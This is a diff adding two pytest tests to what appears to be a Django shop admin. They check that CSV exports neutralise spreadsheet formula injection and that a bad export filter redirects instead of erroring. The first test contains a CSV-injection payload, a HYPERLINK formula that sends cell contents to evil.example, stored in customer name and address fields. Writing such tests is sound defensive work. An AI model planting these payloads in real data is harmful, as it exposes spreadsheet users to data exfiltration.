@@ -128,3 +128,29 @@ def test_merchants_cannot_refund_from_the_admin(merchant, user, variant, place, 
     order.refresh_from_db()
     assert (order.payment_status, order.refunded_amount) == ("paid", 0)
     assert gateway_refund == []
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_formulae(admin_client, user, variant, place, lead):
+    """A customer types the name and address: a cell a spreadsheet would run as a formula is
+    exported as text (a leading apostrophe), never as the formula."""
+    order = place(user, (variant, 1))
+    evil = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
+    address = {**order.shipping_address, "full_name": evil, "street": evil}
+    Order.objects.filter(pk=order.pk).update(shipping_address=address)
+    response = act(admin_client, "export_csv", [order])
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0]["full_name"] == "'" + evil
+    assert not rows[0]["address"].startswith(lead)
+    assert rows[0]["total"] == "60.00"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("query", ["bogus=1", "created_at__gte=notadate", "id__exact=abc"])
+def test_filtered_csv_export_with_a_bad_filter_is_not_a_500(staff, query):
+    """The export link carries the changelist's query string; a hand-edited one that the list
+    itself refuses (?e=1) is refused the same way by the export, not answered with a 500."""
+    client = Client(raise_request_exception=False)
+    client.force_login(staff)
+    response = client.get(f"{CHANGELIST}export-csv/?{query}")
+    assert response.status_code == 302
+    assert response["Location"] == f"{CHANGELIST}?e=1"
